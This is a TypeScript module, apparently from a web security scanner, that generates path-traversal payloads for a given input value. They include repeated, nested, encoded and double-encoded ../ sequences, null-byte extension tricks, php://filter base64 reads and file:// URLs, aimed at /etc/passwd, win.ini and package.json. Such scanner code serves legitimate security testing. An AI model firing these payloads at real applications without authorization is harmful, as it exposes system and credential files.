import { knownFiles, type SystemFile } from '../_shared/knownFiles.ts'

export type TraversalPayload = {
  readonly name: string
  readonly file: SystemFile
  readonly write: (value: string, path: string) => string
}

/** More steps than any folder is deep: the parent of the root is the root. */
const steps = 9
const up = (step: string): string => step.repeat(steps)

const { passwd, winIni, packageJson } = knownFiles

// Works relative to a folder, and as an absolute path.
const fromRoot: TraversalPayload = {
  name: '../ sequences behind a slash',
  file: passwd,
  write: (_, path) => `/${up('../')}${path}`,
}
const absolute: TraversalPayload = { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` }
const afterFolder: TraversalPayload = {
  name: '../ sequences after the directory of the value',
  file: passwd,
  write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
}
const phpFilter: TraversalPayload = {
  name: 'php://filter',
  file: { ...passwd, recognize: recognizeEncoded },
  write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
}
const fileUrl: TraversalPayload = {
  name: 'file:// URL',
  file: passwd,
  write: (_, path) => `file:///${path}`,
}

const nested: TraversalPayload = {
  name: 'nested ../ sequences, which survive removal of ../',
  file: passwd,
  write: (_, path) => `${up('....//')}${path}`,
}
const encoded: TraversalPayload = {
  name: 'double-encoded ../ sequences',
  file: passwd,
  write: (_, path) => `${up('%2e%2e%2f')}${path}`,
}

const likeliest: readonly TraversalPayload[] = [fromRoot, nested, encoded, absolute]

const elsewhere: readonly TraversalPayload[] = [
  {
    name: '..\\ sequences behind a backslash (Windows)',
    file: winIni,
    write: (_, path) => `\\${up('..\\')}${path}`,
  },
  phpFilter,
  fileUrl,
]

/** A URL fetcher needs a scheme, but a file reader may take a path. */
const inUrl: readonly TraversalPayload[] = [fileUrl, fromRoot]

/** Only for values that are known to be paths. */
const rarePayloads: readonly TraversalPayload[] = [
  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
  afterFolder,
  {
    name: 'twice nested ../ sequences, which survive two removals of ../',
    file: passwd,
    write: (_, path) => `${up('......///')}${path}`,
  },
  {
    name: '../ sequences with a null byte before the extension',
    file: passwd,
    write: (value, path) => `${up('../')}${path}\0${extensionOf(value)}`,
  },
  {
    name: 'absolute path with a null byte before the extension',
    file: passwd,
    write: (value, path) => `/${path}\0${extensionOf(value)}`,
  },
  {
    name: 'twice double-encoded ../ sequences',
    file: passwd,
    write: (_, path) => `${up('%252e%252e%252f')}${path}`,
  },
  { name: '../ repeated 5 times', file: passwd, write: (_, path) => `${'../'.repeat(5)}${path}` },
  { name: '../ repeated 2 times', file: passwd, write: (_, path) => `${'../'.repeat(2)}${path}` },
  { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
]

/** If the application appends an extension, only project files can match. */
const projectFilePayloads: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
  name: `../ repeated ${count} times`,
  file: packageJson,
  write: (_, path) => `${'../'.repeat(count)}${path}`,
}))

export const fewPayloads = {
  first: [fromRoot],
  withoutSlash: [fromRoot, encoded],
  likeliest,
  ofAnyReader: [...likeliest, ...elsewhere],
} as const satisfies Readonly<Record<string, readonly TraversalPayload[]>>

/** `origin`: that of the application. */
export function traversalPayloadsFor(value: string, origin: string): readonly TraversalPayload[] {
  if (isUrl(value)) return value.startsWith(`${origin}/`) ? [...inUrl, afterFolder] : inUrl
  const all = [...likeliest, ...elsewhere, ...rarePayloads]
  return value.endsWith('.json') ? [...all, ...projectFilePayloads] : all
}

export function isUrl(value: string): boolean {
  return /^[a-z][a-z0-9+.-]{0,20}:\/\//i.test(value)
}

const base64CharsMin = 80
const scannedChars = 256 * 1024

/** PHP filters return Base64. */
function recognizeEncoded(text: string): string | null {
  const runs = text.slice(0, scannedChars).match(new RegExp(`[A-Za-z0-9+/]{${base64CharsMin},}`, 'g')) ?? []
  for (const run of runs) {
    const line = passwd.recognize(Buffer.from(run, 'base64').toString('latin1'))
    if (line !== null) return line
  }
  return null
}

function folderOf(value: string): string {
  const end = value.lastIndexOf('/')
  return end === -1 ? 'files/' : value.slice(0, end + 1)
}

function extensionOf(value: string): string {
  return /\.[a-z0-9]{1,8}$/i.exec(value)?.[0] ?? '.txt'
}
